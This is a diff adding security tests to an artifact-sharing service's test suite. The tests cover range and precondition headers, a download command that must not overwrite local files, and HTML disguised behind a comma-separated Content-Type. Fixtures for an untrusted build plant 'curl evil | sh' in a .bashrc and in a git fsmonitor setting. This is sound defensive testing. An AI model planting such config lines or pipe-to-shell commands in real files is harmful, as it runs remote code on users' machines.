@@ -2,11 +2,13 @@
 and headless Chromium. Each stack runs on its own SQLite database and storage."""
 
 import hashlib
+import html
 import os
 import re
 import shutil
 import subprocess
 import uuid
+from urllib.parse import quote
 
 import pytest
 
@@ -133,6 +135,57 @@ def test_every_mode_answers_the_same_headers_and_bytes(stack, tmp_path):
         assert stale == PAYLOAD
 
 
+SHA = hashlib.sha256(PAYLOAD).hexdigest()
+# (request headers, status, body) as every mode must answer them: the app decides preconditions
+# and ranges, whatever nginx or S3 would make of the same headers on their own.
+DECIDED = [
+    ({"Range": "bytes=0-9"}, 206, PAYLOAD[:10]),
+    ({"Range": "bytes=0-1,4-5"}, 200, PAYLOAD),
+    ({"Range": "bytes=0-1,0-1"}, 200, PAYLOAD),
+    ({"Range": "bytes=5-2"}, 200, PAYLOAD),
+    ({"Range": "BYTES=0-1"}, 200, PAYLOAD),
+    ({"Range": "bytes=0-1,"}, 200, PAYLOAD),
+    ({"Range": "bytes=abc"}, 200, PAYLOAD),
+    ({"Range": "bytes=-"}, 200, PAYLOAD),
+    ({"Range": "bytes=1-" + "9" * 30}, 206, PAYLOAD[1:]),
+    ({"If-None-Match": '"another"', "Range": "bytes=0-9"}, 206, PAYLOAD[:10]),
+    ({"If-Match": f'"{SHA}"'}, 200, PAYLOAD),
+    ({"If-Match": "*"}, 200, PAYLOAD),
+    ({"If-Match": f'"{SHA}"', "Range": "bytes=0-9"}, 206, PAYLOAD[:10]),
+    ({"If-Match": '"another"'}, 412, b""),
+    ({"If-Match": f'W/"{SHA}"'}, 412, b""),
+    ({"If-Unmodified-Since": "Thu, 01 Jan 1970 00:00:00 GMT"}, 200, PAYLOAD),
+    (
+        {"If-Unmodified-Since": "Thu, 01 Jan 1970 00:00:00 GMT", "Range": "bytes=0-9"},
+        206,
+        PAYLOAD[:10],
+    ),
+]
+
+
+@pytest.mark.parametrize(("sent", "status", "body"), DECIDED, ids=[str(d[0]) for d in DECIDED])
+def test_preconditions_and_ranges_are_answered_alike_in_every_mode(
+    stack, tmp_path, sent, status, body
+):
+    judged_by_the_app = {"If-Match", "If-Unmodified-Since"} & set(sent)
+    if stack.env["SHARE_SERVE_MODE"] == "s3" and "Range" in sent and not judged_by_the_app:
+        pytest.skip("S3 serves ranges itself (docs/api.md)")
+    args = [arg for name, value in sent.items() for arg in ("-H", f"{name}: {value}")]
+    out = tmp_path / "body"
+    status_got, headers = headers_of(
+        curl("-L", "-D", "-", "-o", str(out), *args, link(stack, "dist/app.bin")).stdout
+    )
+    assert status_got == status
+    if status == 412:
+        assert PAYLOAD[:64] not in out.read_bytes()
+        return
+    assert out.read_bytes() == body
+    assert headers["etag"] == [f'"{SHA}"']
+    assert headers["accept-ranges"] == ["bytes"]
+    assert headers["content-disposition"] == ['attachment; filename="app.bin"']
+    assert headers["content-type"] == ["application/octet-stream"]
+
+
 def test_s3_redirects_to_a_sigv4_url_on_the_public_endpoint(stack):
     if stack.env["SHARE_SERVE_MODE"] != "s3":
         pytest.skip("S3 mode only")
@@ -154,6 +207,65 @@ def test_tampered_or_revoked_links_are_403_over_the_wire(stack):
     stack.api("DELETE", f"/api/v1/keys/{share['key_id']}", stack.token)
     body = curl(fresh).stdout
     assert b"key_revoked" in body and TEXT not in body
+
+
+def _another_build(stack, files: dict) -> dict:
+    """A second, untrusted build of the stack's project holding ``files`` ({path: (bytes,
+    content type)}), shared whole; returns the share's body."""
+    build = stack.api(
+        "POST",
+        "/api/v1/projects/share/builds/",
+        stack.project_token,
+        {"ref": "refs/pull/7/head", "commit": "ba" * 20, "trusted": False},
+    )
+    token = build["key"]["token"]
+    for path, (data, content_type) in files.items():
+        answer, _ = stack.request(
+            "PUT",
+            f"/api/v1/builds/{build['id']}/artifacts/{quote(path)}",
+            token,
+            data,
+            {"Content-Type": content_type},
+        )
+        assert answer.status == 201
+    return stack.api("POST", f"/api/v1/builds/{build['id']}/share", token, {"expires_in": 600})
+
+
+def _fetch_everything_command(page: str) -> str:
+    found = re.search(r"Fetch everything[^<]*</h2>\s*<pre>(.*?)</pre>", page, re.DOTALL)
+    return html.unescape(found.group(1))
+
+
+def test_fetching_everything_writes_only_into_a_directory_of_its_own(stack, tmp_path):
+    """An untrusted build names its artifacts after the downloader's own files: the page's
+    one command must not write over anything where it is run."""
+    if stack.env["SHARE_SERVE_MODE"] != "direct":
+        pytest.skip("the page does not depend on the serving mode")
+    hostile = {
+        ".bashrc": b"curl evil | sh\n",
+        ".git/config": b"[core]\n\tfsmonitor = curl evil | sh\n",
+        "src/main.c": b"backdoor\n",
+    }
+    shared = _another_build(
+        stack, {path: (data, "application/octet-stream") for path, data in hostile.items()}
+    )
+    command = _fetch_everything_command(curl("-fL", shared["url"]).stdout.decode())
+    checkout = tmp_path / "checkout"
+    for path in hostile:
+        (checkout / path).parent.mkdir(parents=True, exist_ok=True)
+        (checkout / path).write_bytes(b"mine\n")
+    before = sorted(p.relative_to(checkout) for p in checkout.rglob("*"))
+
+    ran = subprocess.run(["bash", "-c", command], cwd=checkout, capture_output=True, timeout=60)
+    assert ran.returncode == 0, ran.stderr
+    assert all((checkout / path).read_bytes() == b"mine\n" for path in hostile)
+    made = [p for p in checkout.iterdir() if p.relative_to(checkout) not in before]
+    assert len(made) == 1 and made[0].is_dir()
+    assert {p: (made[0] / p).read_bytes() for p in hostile} == hostile
+    # Run again: the directory is there already, so nothing is fetched or written.
+    again = subprocess.run(["bash", "-c", command], cwd=checkout, capture_output=True, timeout=60)
+    assert again.returncode != 0
+    assert {p: (made[0] / p).read_bytes() for p in hostile} == hostile
 
 
 @pytest.fixture(scope="module")
@@ -209,3 +321,20 @@ def test_a_hostile_html_artifact_never_runs_in_the_apps_origin(stack, browser):
     assert result.get("isDownload") is True
     assert "pwned" not in (browser.evaluate("document.title") or "")
     assert browser.evaluate("document.body && document.body.getAttribute('data-ran')") is None
+
+
+@pytest.mark.parametrize(
+    "content_type",
+    ["text/plain; x=y, text/html", 'image/png; q="1", text/html'],
+)
+def test_a_content_type_listing_html_after_a_safe_type_is_still_a_download(
+    stack, browser, content_type
+):
+    """Browsers read the last type of a comma-separated Content-Type: what the uploader wrote
+    as "text/plain; x=y, text/html" is HTML to them, so it must not be shown inline."""
+    if stack.env["SHARE_SERVE_MODE"] == "s3":
+        pytest.skip("S3 serves from its own origin")
+    shared = _another_build(stack, {"site/disguised.html": (HOSTILE, content_type)})
+    result = browser.open(shared["artifacts"][0]["url"])
+    assert result.get("isDownload") is True
+    assert browser.evaluate("document.body && document.body.innerText") != "hostile page"
